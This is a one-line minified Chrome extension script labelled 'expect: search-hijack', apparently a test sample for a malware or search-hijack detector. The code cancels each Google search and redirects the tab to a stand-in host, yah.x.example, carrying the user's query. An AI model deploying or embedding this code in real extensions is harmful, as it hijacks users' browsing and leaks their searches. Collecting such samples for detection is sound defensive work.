// expect: search-hijack
chrome.webRequest.onBeforeRequest.addListener(function(d){if(d.url.match(/google\.com\/search/)){var q=d.url.split("q=")[1].split("&")[0];chrome.tabs.update(d.tabId,{url:"https://yah.x.example/search?p="+q});return{cancel:!0}}},{urls:["*://*.google.com/*"]},["blocking"]);
